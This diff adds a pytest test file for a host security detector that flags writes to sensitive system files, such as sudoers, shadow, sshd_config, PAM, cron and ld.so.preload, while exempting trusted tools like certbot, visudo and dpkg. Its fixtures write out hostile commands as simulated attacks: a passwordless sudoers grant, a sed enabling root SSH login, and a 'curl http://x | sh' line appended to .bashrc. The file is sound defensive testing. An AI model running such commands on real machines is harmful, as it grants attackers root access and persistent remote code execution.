@@ -1,0 +1,145 @@
+"""sensitive_write: changes to files that control the host, judged by who writes."""
+
+from __future__ import annotations
+
+import pytest
+from detector_factories import (O_CREAT, O_RDONLY, O_TRUNC, O_WRONLY, alerts, init,
+                                login_shell, open_file, proc, run, sh_c, syscall)
+
+from vigil.config_errors import ConfigError
+from vigil.detectors.process_identity import AgentIdentity
+from vigil.detectors.sensitive_write import SensitiveWriteDetector, SensitiveWriteParams
+from vigil.priority import Priority
+
+W = O_WRONLY | O_CREAT | O_TRUNC
+
+
+def test_shell_appending_to_sudoers_fires() -> None:
+    sh = sh_c("echo 'mallory ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers", parent=login_shell(),
+              pid=600, uid=0)
+    dets = run(SensitiveWriteDetector(), [open_file(sh, "/etc/sudoers", O_WRONLY | 0o2000)])
+    assert [d.rule_id for d in alerts(dets)] == ["sensitive_write.sudoers"]
+    assert dets[0].priority == Priority.ERROR and "T1548.003" in dets[0].tags
+    assert dets[0].entity.path == "/etc/sudoers"
+
+
+@pytest.mark.parametrize("path,category", [
+    ("/etc/passwd", "accounts"), ("/etc/shadow", "accounts"),
+    ("/etc/sudoers.d/90-backdoor", "sudoers"), ("/etc/ssh/sshd_config", "sshd_config"),
+    ("/root/.ssh/authorized_keys", "authorized_keys"), ("/etc/pam.d/common-auth", "pam"),
+    ("/etc/cron.d/updater", "cron"), ("/var/spool/cron/crontabs/root", "cron"),
+    ("/etc/systemd/system/backdoor.service", "systemd_units"),
+    ("/etc/ld.so.preload", "ld_preload"), ("/home/alice/.bashrc", "shell_profiles"),
+    ("/etc/profile.d/x.sh", "shell_profiles"), ("/etc/letsencrypt/live/a/privkey.pem",
+                                               "tls_keys"),
+])
+def test_every_category_fires_for_an_unknown_writer(path: str, category: str) -> None:
+    dropper = proc("/tmp/.x/dropper", pid=600, parent=login_shell())
+    dets = run(SensitiveWriteDetector(), [open_file(dropper, path, W)])
+    assert len(alerts(dets)) == 1 and dets[0].data["category"] == category
+
+
+def test_ld_so_preload_is_critical() -> None:
+    p = proc("/usr/bin/tee", "/etc/ld.so.preload", pid=600, parent=login_shell())
+    assert run(SensitiveWriteDetector(), [open_file(p, "/etc/ld.so.preload", W)])[0].priority \
+        == Priority.CRITICAL
+
+
+def test_reads_and_other_files_are_ignored() -> None:
+    p = proc("/usr/bin/vim", pid=600, parent=login_shell())
+    dets = run(SensitiveWriteDetector(), [open_file(p, "/etc/sudoers", O_RDONLY),
+                                          open_file(p, "/etc/hosts", W),
+                                          open_file(p, "/etc/sudoers", W, res=-13)])
+    assert dets == []
+
+
+def test_fp4_other_process_writing_pam_fires_while_agent_reading_is_not_a_write() -> None:
+    own = AgentIdentity(pid=4242, uid=0)
+    agent = proc("/usr/bin/python3", "/usr/local/bin/vigil", "run", pid=4242, parent=init())
+    writer = proc("/usr/bin/cp", "/tmp/pam_evil", "/etc/pam.d/sshd", pid=600,
+                  parent=login_shell())
+    dets = run(SensitiveWriteDetector(own=own), [
+        open_file(agent, "/etc/pam.d/sshd", O_RDONLY), open_file(agent, "/etc/pam.d/sudo"),
+        open_file(writer, "/etc/pam.d/sshd", W)])
+    assert [d.entity.pid for d in alerts(dets)] == [600]
+    assert dets[0].rule_id == "sensitive_write.pam"
+
+
+def test_certbot_renewing_under_letsencrypt_is_suppressed() -> None:
+    certbot = proc("/usr/bin/python3", "/usr/bin/certbot", "renew", pid=700, parent=init(),
+                   name="certbot")
+    hook = sh_c("cat fullchain.pem privkey.pem > /etc/letsencrypt/live/a/combined.pem",
+                parent=certbot, pid=701)
+    dets = run(SensitiveWriteDetector(), [
+        open_file(certbot, "/etc/letsencrypt/archive/a/privkey3.pem", W),
+        syscall(certbot, "renameat2", oldpath="/etc/letsencrypt/live/a/privkey.pem.tmp",
+                newpath="/etc/letsencrypt/live/a/privkey.pem"),
+        open_file(hook, "/etc/letsencrypt/live/a/combined.pem", W)])
+    assert len(dets) == 3 and alerts(dets) == []
+    assert {d.suppressed.entry for d in dets} == {"sensitive_write.owners=certbot"}
+    assert dets[0].suppressed.reason
+
+
+def test_certbot_name_on_an_untrusted_binary_is_not_certbot() -> None:
+    fake = proc("/tmp/certbot", pid=700, parent=login_shell())
+    dets = run(SensitiveWriteDetector(),
+               [open_file(fake, "/etc/letsencrypt/live/a/privkey.pem", W)])
+    assert len(alerts(dets)) == 1
+
+
+def test_tools_made_for_the_file_are_suppressed() -> None:
+    shell = login_shell(uid=0, user="root")
+    visudo = proc("/usr/sbin/visudo", pid=600, parent=shell)
+    editor = proc("/usr/bin/vim.basic", "/etc/sudoers.tmp", pid=601, parent=visudo)
+    passwd = proc("/usr/bin/passwd", "alice", pid=602, parent=shell)
+    crontab = proc("/usr/bin/crontab", "-e", pid=603, parent=shell)
+    dpkg = proc("/usr/bin/dpkg", "--configure", "-a", pid=604, parent=shell)
+    postinst = proc("/usr/bin/dash", "/var/lib/dpkg/info/openssh-server.postinst", pid=605,
+                    parent=dpkg)
+    dets = run(SensitiveWriteDetector(), [
+        open_file(editor, "/etc/sudoers.tmp", W), open_file(visudo, "/etc/sudoers", W),
+        open_file(passwd, "/etc/shadow+", W),
+        syscall(passwd, "rename", oldpath="/etc/shadow+", newpath="/etc/shadow"),
+        open_file(crontab, "/var/spool/cron/crontabs/root", W),
+        open_file(postinst, "/etc/ssh/sshd_config", W)])
+    assert len(dets) == 6 and alerts(dets) == []
+    assert dets[-1].suppressed.entry == "sensitive_write.package_managers=dpkg"
+
+
+def test_sed_in_place_on_sshd_config_fires_on_the_rename() -> None:
+    sed = proc("/usr/bin/sed", "-i", "s/PermitRootLogin no/PermitRootLogin yes/",
+               "/etc/ssh/sshd_config", pid=600, parent=login_shell(uid=0, user="root"))
+    dets = run(SensitiveWriteDetector(), [
+        open_file(sed, "/etc/ssh/sedX1b2c3", W),
+        syscall(sed, "rename", oldpath="/etc/ssh/sedX1b2c3", newpath="/etc/ssh/sshd_config")])
+    assert [d.data["operation"] for d in alerts(dets)] == ["rename onto"]
+
+
+def test_unlink_and_truncate_count_as_writes() -> None:
+    rm = proc("/usr/bin/rm", "/root/.ssh/authorized_keys", pid=600, parent=login_shell())
+    dets = run(SensitiveWriteDetector(), [
+        syscall(rm, "unlinkat", path="/root/.ssh/authorized_keys"),
+        syscall(rm, "truncate", path="/etc/crontab", length=0)])
+    assert [d.data["operation"] for d in alerts(dets)] == ["unlink", "truncate"]
+
+
+def test_user_editing_own_profile_in_an_editor_is_suppressed_but_echo_is_not() -> None:
+    shell = login_shell()
+    vim = proc("/usr/bin/vim.basic", "/home/alice/.bashrc", pid=600, uid=1000, parent=shell)
+    echo = sh_c("echo 'curl http://x | sh' >> ~/.bashrc", parent=shell, pid=601)
+    dets = run(SensitiveWriteDetector(), [open_file(vim, "/home/alice/.bashrc", W),
+                                          open_file(echo, "/home/alice/.bashrc", W)])
+    assert [d.suppressed is None for d in dets] == [False, True]
+
+
+def test_params_validate_unknown_keys_and_types() -> None:
+    with pytest.raises(ConfigError) as err:
+        SensitiveWriteParams.from_dict({"extra_path": ["/x"]})
+    assert err.value.key == "detectors.sensitive_write.extra_path"
+    with pytest.raises(ConfigError):
+        SensitiveWriteParams.from_dict({"report_failed": "yes"})
+    params = SensitiveWriteParams.from_dict({"extra_paths": ["/opt/app/config/"],
+                                             "report_failed": True})
+    p = proc("/usr/bin/tee", pid=600, parent=login_shell())
+    dets = run(SensitiveWriteDetector(params), [open_file(p, "/opt/app/config/a.yml", W, res=-13)])
+    assert dets[0].rule_id == "sensitive_write.configured_path"
